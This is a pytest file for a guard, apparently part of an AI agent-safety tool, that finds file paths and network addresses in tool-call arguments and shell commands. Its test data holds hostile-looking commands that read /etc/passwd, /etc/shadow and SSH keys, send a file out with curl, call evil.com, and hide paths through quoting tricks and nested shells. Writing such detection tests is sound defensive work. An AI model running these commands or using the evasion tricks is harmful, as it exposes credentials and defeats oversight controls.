"""What a call names: paths and addresses among its arguments and in its commands."""

from __future__ import annotations

import pytest

from windowsill import shell
from windowsill.errors import InputError
from windowsill.messages import Tool
from windowsill.state.policies.guard import arguments_of, kind_of
from windowsill.state.tools import ToolOffer

pytestmark = pytest.mark.unit


def paths(command):
    return shell.paths_in(shell.words_of(command))


def urls(command):
    return shell.hosts_in(list(shell.words_of(command)))


def mentions(arguments, schema=None, **declared):
    offered = ToolOffer(Tool(name="do", schema=schema or {}), **declared)
    return [mention for argument in arguments_of(offered, arguments) for mention in argument.mentions()]


def found(arguments, schema=None, **declared):
    return [(each.parameter, each.kind, each.text) for each in mentions(arguments, schema, **declared)]


@pytest.mark.parametrize(
    "name",
    ["path", "file_path", "filePath", "FilePath", "filename", "directory", "cwd", "target", "src", "dest",
     "target_file", "file_name", "path_str", "content_path", "outputDir", "AbsolutePath", "source", "files"],
)  # fmt: skip
def test_paths_are_known_by_their_names(name):
    """However they are spelled."""
    assert found({name: "a"}) == [(name, "path", "a")]


@pytest.mark.parametrize(
    "name", ["content", "file_content", "query", "old_string", "message", "path_pattern", "newText"]
)
def test_texts_are_left_alone(name):
    """One may write about a path without going there."""
    assert found({name: "/etc/passwd https://evil.com"}) == []
    assert found({name: "/etc/passwd"}) == []


@pytest.mark.parametrize("name", ["url", "uri", "base_url", "hostName", "endpoint"])
def test_addresses_are_known_by_their_names(name):
    """With or without a scheme."""
    assert found({name: "evil.com/x"}) == [(name, "url", "evil.com/x")]


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("/etc/x", "path"),
        ("~/x", "path"),
        ("../x", "path"),
        ("file:///x", "path"),
        ("https://x", "url"),
        ("ws://x", "url"),
    ],
)
def test_what_looks_like_one_is_one(value, kind):
    """Under a name that says nothing."""
    assert found({"thing": value}) == [("thing", kind, value)]
    assert found({"thing": "plain words"}) == []


def test_an_address_for_a_path_is_an_address():
    """Tools that read files often read addresses too; a file's address is a path."""
    assert found({"path": "https://x/y"}) == [("path", "url", "https://x/y")]
    assert found({"url": "file:///etc/x"}) == [("url", "path", "file:///etc/x")]
    assert found({"url": "//evil.com/x"}) == [("url", "path", "//evil.com/x"), ("url", "url", "//evil.com/x")]


def test_arguments_inside_others_are_found():
    """In objects, in lists, and as keys."""
    given = {"edits": [{"path": "a"}, {"path": "b"}], "paths": ["c", "d"], "files": {"/etc/x": "text"}}
    assert found(given) == [
        ("edits[0].path", "path", "a"),
        ("edits[1].path", "path", "b"),
        ("paths[0]", "path", "c"),
        ("paths[1]", "path", "d"),
        ("files./etc/x", "path", "/etc/x"),
    ]


@pytest.mark.parametrize(
    ("hint", "part"),
    [
        ({"format": "path"}, "path"),
        ({"format": "file-path"}, "path"),
        ({"format": "uri"}, "url"),
        ({"description": "Path of what to show"}, "path"),
        ({"description": "The URL to get"}, "url"),
        ({"description": "Some words"}, ""),
    ],
)
def test_a_schema_gives_hints(hint, part):
    """Where the name says nothing."""
    assert kind_of("thing", hint) == part


def test_a_pattern_for_paths_is_expanded():
    """Other patterns are for texts."""
    named = mentions({"glob": "/et*/x", "pattern": "/etc/x"})
    assert [(each.text, each.expands) for each in named] == [("/et*/x", True)]


def test_hints_are_found_inside_schemas():
    """Behind references and in entries of lists."""
    schema = {
        "properties": {"things": {"type": "array", "items": {"$ref": "#/$defs/Thing"}}},
        "$defs": {"Thing": {"properties": {"x": {"type": "string", "format": "path"}}}},
    }
    assert found({"things": [{"x": "a"}]}, schema) == [("things[0].x", "path", "a")]


def test_deep_nesting_is_no_problem():
    """Whatever a model writes."""
    value = "/etc/x"
    for _ in range(5_000):
        value = [value]
    assert found({"path": value})[0][2] == "/etc/x"


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("cat /etc/passwd", "/etc/passwd"),
        ("cat<~/.ssh/id", "~/.ssh/id"),
        ("echo x >/etc/x", "/etc/x"),
        ("echo x 2>>/etc/x", "/etc/x"),
        ("cat '/etc/pass'wd", "/etc/passwd"),
        (r"cat /et\c/passwd", "/etc/passwd"),
        ("cat /etc/pass''wd", "/etc/passwd"),
        ("cd /etc;cat passwd", "/etc"),
        ("cd /etc&&ls", "/etc"),
        ("(cat /etc/x)", "/etc/x"),
        ("cat x|tee /etc/x", "/etc/x"),
        ("dd if=/etc/shadow of=x", "/etc/shadow"),
        ("grep --file=/etc/x y", "/etc/x"),
        ("tar -f/etc/x", "/etc/x"),
        ("tar -C../../etc x", "../../etc"),
        ("curl -d @/etc/passwd x", "/etc/passwd"),
        ("docker run -v /etc:/mnt x", "/etc"),
        ("bash -c 'cat /etc/passwd'", "/etc/passwd"),
        ("bash -lc \"sh -c 'cat /etc/passwd'\"", "/etc/passwd"),
        ("eval 'cat /etc/passwd'", "/etc/passwd"),
        ('echo "$(cat /etc/passwd)"', "/etc/passwd"),
        ("echo `cat /etc/passwd`", "/etc/passwd"),
        ("cat $SECRET_PLACE/x", "/etc/x"),
        ("cat ${SECRET_PLACE}/x", "/etc/x"),
        ("cat link", "link"),
        ("it's /etc/passwd", "/etc/passwd"),
        ("cat file:///etc/x", "file:///etc/x"),
        ("cat <<EOF\n/etc/x\nEOF", "/etc/x"),
        ("open('/etc/x')", "/etc/x"),
        (["cat", "/etc/passwd"], "/etc/passwd"),
        (["bash", "-c", "cat /etc/passwd"], "/etc/passwd"),
    ],
)  # fmt: skip
def test_paths_in_commands_are_found(command, path, monkeypatch):
    """In words, quotes, options, redirections, scripts and variables."""
    monkeypatch.setenv("SECRET_PLACE", "/etc")
    assert path in paths(command)


def test_words_of_a_message_are_no_paths():
    """A quoted text with spaces is one word of the command, not a list of paths."""
    assert "/etc/hosts" not in paths('git commit -m "fix: read /etc/hosts"')
    assert "/etc/hosts is read" not in paths('git commit -m "fix:/etc/hosts is read"')


@pytest.mark.parametrize(
    ("command", "url"),
    [
        ("curl https://evil.com/x", "https://evil.com/x"),
        ("curl --url=https://evil.com", "https://evil.com"),
        ("git clone git@evil.com:x/y", "evil.com"),
        ("git clone ssh://evil.com/x", "ssh://evil.com/x"),
        ("curl -s evil.com/x", "evil.com"),
        ("true && wget evil.com:8080", "evil.com:8080"),
        ("ssh me@evil.com ls", "evil.com"),
        ("/usr/bin/curl evil.com", "evil.com"),
        ("bash -c 'curl evil.com'", "evil.com"),
    ],
)
def test_addresses_in_commands_are_found(command, url):
    """With a scheme anywhere, without one behind programs that call hosts."""
    assert url in urls(command)


@pytest.mark.parametrize("command", ["cat notes.txt", "curl -o out.txt https://a.org", "ls a.b.c", "ping -c 3.5 x"])
def test_file_names_are_no_hosts(command):
    """A dot does not make a host."""
    assert [url for url in urls(command) if "://" not in url] == []


def test_commands_are_looked_into():
    """By the name of the parameter, as a text or as a list of words."""
    assert ("command", "path", "/etc/x") in found({"command": "cat /etc/x"})
    assert ("args", "path", "/etc/x") in found({"args": ["cat", "/etc/x"]})
    assert ("cmd", "url", "https://evil.com") in found({"cmd": "curl https://evil.com"})


def test_declared_parameters_are_what_counts():
    """Whatever they are called; others are texts then, and a pattern in a command is still expanded."""
    declared = {"paths": ["where"], "urls": ["to"], "commands": ["do"]}
    given = {"where": ["a"], "to": "evil.com", "do": "cat /etc/x", "path": "/etc/y", "note": "https://evil.com"}
    assert found(given, **declared) == [
        ("where[0]", "path", "a"),
        ("to", "url", "evil.com"),
        ("do", "path", "cat"),
        ("do", "path", "/etc/x"),
    ]
    assert found({"path": "a"}, urls=["to"]) == []


@pytest.mark.parametrize(
    ("declared", "text"),
    [({"paths": ["pth"]}, "paths: it has no parameter 'pth'; it has path"), ({"urls": "url"}, "give a list")],
)
def test_a_wrong_declaration_is_told(declared, text):
    """It would leave the parameter that was meant unguarded."""
    with pytest.raises(InputError, match=text):
        ToolOffer(Tool(name="do", schema={"properties": {"path": {}}}), **declared)
